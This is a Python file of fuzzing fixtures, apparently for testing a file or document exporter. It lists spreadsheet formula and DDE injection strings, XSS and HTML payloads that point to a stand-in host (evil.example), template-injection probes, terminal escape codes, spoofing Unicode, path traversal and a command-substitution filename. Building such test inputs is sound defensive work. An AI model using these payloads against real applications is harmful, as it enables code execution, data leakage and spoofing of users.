"""Texts that try to run, to break a file, or to break a reader's eye."""

from __future__ import annotations

STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠", "{=", "=-", "'", "%")
FORMULAS = tuple(
    start + rest for start in STARTS for rest in ("1+1", 'HYPERLINK("http://evil.example","x")', "cmd|' /C calc'!A0")
)
MARKUP = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg onload=alert(1)>', "</style><script>1</script>",
    "</title><script>1</script>", '<iframe src="http://evil.example">', "<meta http-equiv=refresh content=0>",
    "<base href=http://evil.example>", "<form action=http://evil.example>", '<a href="javascript:alert(1)">x</a>',
    '<p style="background:url(http://evil.example)">x</p>', "]]><x/>", "<!--", "&lt;script&gt;", "&#x3c;script>",
    "' onmouseover='alert(1)", '" autofocus onfocus="alert(1)', "![x](http://evil.example/?d=1)", "[bold red]x[/bold red]",
    "{{7*7}}", "${7*7}", "{0}", "{n}", "%s%n", "\x1b]0;x\x07\x1b[31mred\x1b[2J", "\x9b31m", 'PAGE \\* "x"', "<w:instrText>",
)  # fmt: skip
BROKEN = (
    "\x00", "\x01\x02\x0b\x0c\x1f", "a\x7f\x80\x85\x9fb", "\ud800", "\udfff\ud800", "\ufffe\uffff", "\ufdd0\U0001ffff",
    "\u202etxt.exe\u202c", "\u2066x\u2069", "\U000e0041\U000e007f", "\u2028\u2029", "a" + "\u0301" * 10_000,
    "长" * 100_000, "x" * 1_000_000, " " * 100_000 + "。", "(" * 50_000, "\n" * 5_000, "\r\n\r", "", " ", "\ufeff\u200b\u3164",
    "../../x.pdf", "-rf.pdf", "$(id).pdf", "名" * 400 + ".docx", "_x0041_", "1e999", "NaN", "１２３",
)  # fmt: skip
HUGE = tuple(text for text in BROKEN if len(text) >= 5_000)
ALL = (*FORMULAS, *MARKUP, *BROKEN)
